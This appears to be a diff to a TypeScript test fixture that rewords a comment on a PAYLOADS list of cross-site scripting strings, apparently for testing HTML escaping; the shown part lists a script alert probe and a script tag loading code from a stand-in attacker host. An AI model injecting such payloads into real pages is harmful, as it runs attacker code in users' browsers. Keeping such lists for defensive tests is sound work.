@@ -1,4 +1,4 @@
-/** Texts that would run if any of them were ever taken for HTML, an attribute, an address, a script or a style. */
+/** Texts that would run as code if the app ever treated them as HTML, an attribute, an address, a script or a style. */
 export const PAYLOADS: readonly string[] = [
   '<script>alert(1)</script>',
   '<script src=//evil.example/x.js></script>',
